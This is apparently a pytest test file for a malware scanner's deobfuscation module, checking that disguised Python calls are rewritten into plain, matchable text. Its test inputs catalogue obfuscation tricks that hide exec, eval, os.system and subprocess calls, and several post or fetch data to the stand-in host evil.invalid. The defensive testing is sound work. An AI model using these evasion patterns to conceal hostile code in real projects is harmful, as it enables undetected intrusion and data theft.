# ruff: noqa: E501, F541 - programs as they are written
"""Folded text: aliases, computed strings and indirections written out where rules look for them."""

import base64
import os
import subprocess
import sys

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scanner.decode import PeelBudget, peel
from scanner.decode.fold import fold
from scanner.member import Layer, Member

B64 = base64.b64encode(b"print('inert'); import os").decode()
URL = "https://evil.invalid/x"


def folded(source: str) -> str:
    found = [item for item in fold(source.encode(), PeelBudget()).emissions if item.path == ("folded",)]
    return found[0].data.decode() if found else ""


@pytest.mark.parametrize(
    ("source", "reads"),
    [
        (f"import base64 as b\ne = exec\ne(b.b64decode('{B64}'))", f"exec(base64.b64decode('{B64}'))"),
        (f"from base64 import b64decode as d\nx = d('{B64}')\nexec(x)", f"exec(base64.b64decode('{B64}'))"),
        (f"u = 'htt' + 'ps://evil.inv' + 'alid/x'\nimport requests as r\nr.post(u, data=1)", f"requests.post('{URL}', data=1)"),
        ("import requests\nrequests.post('x/dilavni.live//:sptth'[::-1])", f"requests.post('{URL}')"),
        ("import os\ngetattr(os, 'sys' + 'tem')('id')", "os.system('id')"),
        ("__import__('o' + 's').system('id')", "os.system('id')"),
        ("import importlib as i\ni.import_module('sub' + 'process').run('id')", "subprocess.run('id')"),
        ("globals()['__built' + 'ins__'].exec('x=1')", "exec('x=1')"),
        ("__builtins__.__dict__['ev' + 'al']('1')", "eval('1')"),
        ("vars(__builtins__)['ex' + 'ec']('x=1')", "exec('x=1')"),
        ("import sys\nsys.modules['o' + 's'].system('id')", "os.system('id')"),
        ("import os\nos.__dict__['sys' + 'tem']('id')", "os.system('id')"),
        ("import os\nos.__getattribute__('sys' + 'tem')('id')", "os.system('id')"),
        ("f = lambda n: __import__(n)\nf('o' 's').system('id')", "os.system('id')"),
        (f"import base64\nu = base64.b64decode('{base64.b64encode(URL.encode()).decode()}').decode()\nimport requests\ndef go():\n    requests.get(u)", f"requests.get('{URL}')"),
        ("h = '%s://%s' % ('https', 'evil.invalid/x')\nimport httpx\nhttpx.get(h)", f"httpx.get('{URL}')"),
        ("h = '{}://{}'.format('https', 'evil.invalid/x')\nimport httpx\nhttpx.get(h)", f"httpx.get('{URL}')"),
        ("p = 'https'\nh = f'{p}://evil.invalid/x'\nimport httpx\nhttpx.get(h)", f"httpx.get('{URL}')"),
        ("import httpx\nhttpx.get('hxxps://evil.invalid/x'.replace('xx', 'tt'))", f"httpx.get('{URL}')"),
        ("import httpx\nhttpx.get(bytes.fromhex('68747470733a2f2f6576696c2e696e76616c69642f78').decode())", f"httpx.get('{URL}')"),
        ("𝓮𝔁𝓮𝓬 = exec\n𝓮𝔁𝓮𝓬('x=1')", "exec('x=1')"),
        ("from os import system as s\ns('id')", "os.system('id')"),
        ("import requests\nx = [y.strip() for y in requests.get('https://' + 'evil.invalid/x')]", f"requests.get('{URL}')"),
        ("import requests\nx = [z for y in names for z in requests.get('https://' + 'evil.invalid/x')]", f"requests.get('{URL}')"),
        ("import requests\nx = sum(y for y in requests.get('https://' + 'evil.invalid/x') if y)", f"requests.get('{URL}')"),
        ("import os\ngetattr(os, dir(os)[dir(os).index('sys' + 'tem')])('id')", "os.system('id')"),
        ("import httpx\ne = eval\nhttpx.get(e(bytes.fromhex('2268747470733a2f2f6576696c2e696e76616c69642f7822').decode()))", f"httpx.get('{URL}')"),
        ("import time\ntime.sleep(eval('7_1_6-(-8_5)'[::-1][::-1]))", "time.sleep(801)"),
        ("import functools\nrun = functools.partial(__import__('os').system)\nrun('id')", "os.system"),
    ],
)  # fmt: skip
def test_a_folded_layer_reads_plainly(source: str, reads: str) -> None:
    assert reads in folded(source)


def test_a_codec_for_host_names_is_asked_for_names_alone() -> None:
    source = "x = ({}).encode().decode('punycode')\nexec('print(1)' + x[0])\n"
    assert "exec('print(1)m')" in folded(source.format("'mnchen-' + '3ya'"))
    assert ".decode('punycode')" in folded(source.format("'a-' + 'b' * 2000000"))


def test_a_folded_layer_keeps_the_imports_and_the_members_lines() -> None:
    source = "import requests\n\n\nw = 'https://' + 'evil.invalid'\n\n\ndef send(x):\n    requests.post(w, data=x)\n"
    found = list(peel(Member(name="a.py", data=b"e = exec\n" + source.encode()), PeelBudget()))
    layer = next(item for item in found if isinstance(item, Layer) and item.path == ("folded",))
    assert b"import requests" in layer.data
    assert layer.line_at(layer.data.index(b"requests.post('https://evil.invalid'")) == 9


def test_a_long_file_is_folded_in_excerpts_whose_lines_still_hold() -> None:
    source = b"import requests\n" + b"x = 1\n" * 20_000 + b"u = 'https://' + 'evil.invalid'\nrequests.get(u)\n"
    emission = next(item for item in fold(source, PeelBudget()).emissions if item.path == ("folded",))
    assert len(emission.data) < 1000
    assert emission.lines is not None
    row = emission.data[: emission.data.index(b"requests.get('https")].count(b"\n")
    assert emission.lines[row] == 20_003


def test_a_place_with_several_values_keeps_its_own_text() -> None:
    source = "import requests\nfor n in ['a', 'b']:\n    u = 'https://' + n\n    requests.get(u)\n"
    assert "requests.get('https" not in folded(source)


def test_what_is_made_of_a_set_is_the_same_in_every_process() -> None:
    names = {f"name{n}" for n in range(40)}
    source = f"import requests\nnames = {names}\nrequests.get('https://' + '.'.join(names), *['-'.join([*names])])\n"
    program = "import sys; from scanner.decode import PeelBudget; from scanner.decode.fold import fold; print(*fold(sys.argv[1].encode(), PeelBudget()).emissions)"
    told = {
        subprocess.run(
            [sys.executable, "-c", program, source],
            env={**os.environ, "PYTHONHASHSEED": seed},
            capture_output=True,
            check=True,
        ).stdout
        for seed in ("1", "2")
    }
    assert len(told) == 1
    assert b"https://name0.name1.name10." in told.pop()


def test_branches_that_are_not_taken_are_read_too() -> None:
    source = f"import base64\nif False:\n    exec(base64.b64decode('{B64}'))\n"
    assert any(item.path == ("base64",) for item in fold(source.encode(), PeelBudget()).emissions)


def test_function_bodies_are_read_without_a_call() -> None:
    source = f"import base64\nclass A:\n    def run(self, x):\n        def inner():\n            exec(base64.b64decode('{B64}'))\n"
    assert any(item.path == ("base64",) for item in fold(source.encode(), PeelBudget()).emissions)


def test_names_set_by_executed_text_are_known_afterwards() -> None:
    source = "exec('part = \"https://\"')\nimport requests as q\nq.get(part + 'evil.invalid')\n"
    assert "requests.get('https://evil.invalid')" in folded(source)


def test_nothing_runs(tmp_path: object) -> None:
    trap = "raised = __import__('os').environ.__setitem__('MEERKAT_TEST_TRAP', '1')\nexec(raised)\nopen('trap', 'w')\n"
    fold(trap.encode(), PeelBudget())
    import os

    assert "MEERKAT_TEST_TRAP" not in os.environ


FRAGMENTS = [
    "x = 'abc'", "exec(x)", "x += 'd'", "for i in range(5):\n    x += chr(i)", "def f(a, *b, **c):\n    return a + x", "y = f(x)",
    "y = [c for c in x if c]", "z = {k: v for k, v in zip(x, x)}", "x = x[::-1]", "import base64 as b", "w = b.b64decode(x)",
    "try:\n    x = 1 / 0\nexcept Exception as e:\n    x = 'q'", "while x:\n    x = x[1:]", "class A:\n    v = x\n    def m(self):\n        return self.v",
    "a = A().m()", "g = globals()['x']", "l = lambda q: q * 3", "x = l(x)", "x, *y = x, x, x", "del x", "with open(x) as h:\n    x = h.read()",
    "x = f'{x!r:>10}'", "x = '%s' % x", "match x:\n    case 'a':\n        x = 1", "x = getattr(x, 'upper')()", "async def g():\n    await x", "x = (yield)" ,
    "import os; os.system(x)", "x = sorted(x, key=len)", "x = map(ord, x)", "x = ''.join(map(chr, [97, 98]))", "x = eval('x')", "exec(compile(x, '', 'exec'))",
    "global x", "x = sum([1, 2])", "x = bytes([1, 2, 300])", "x: str = 'a'", "assert x", "raise x", "x = not x", "x = x if x else x", "x = x < 'a' < 1",
]  # fmt: skip


@given(st.lists(st.sampled_from(FRAGMENTS), max_size=12))
def test_any_mix_of_statements_folds_without_a_fault(parts: list[str]) -> None:
    folded_text = fold("\n".join(parts).encode(), PeelBudget(steps=20_000))
    assert folded_text.stopped in (None, "steps", "time", "memory", "nesting", "depth")


def test_functions_that_call_each_other_are_read_once_each() -> None:
    parts = ["def f0(x):\n    return x"]
    parts += [f"def f{n}(x):\n    f{n - 1}(x)\n    return f{n - 1}(x)" for n in range(1, 40)]
    parts.append(f"def last():\n    return 'https://' + '{URL}'")
    found = fold("\n".join(parts).encode(), PeelBudget(steps=10_000))
    assert found.stopped is None
    assert URL.encode() in found.emissions[-1].data


@pytest.mark.parametrize("filling", ["table[at], table[other] = table[other], table[at]", "out.append(other)"])
def test_a_loop_over_what_nobody_knows_ends_soon(filling: str) -> None:
    source = (
        "import os\ntable = list(range(256))\nout = []\nother = 0\nfor at in range(256):\n"
        f"    other = (other + table[at] + os.getpid()) % 256\n    {filling}\nprint('https://' + '{URL}')\n"
    )
    found = fold(source.encode(), PeelBudget(steps=600))
    assert found.stopped is None
    assert URL.encode() in found.emissions[-1].data
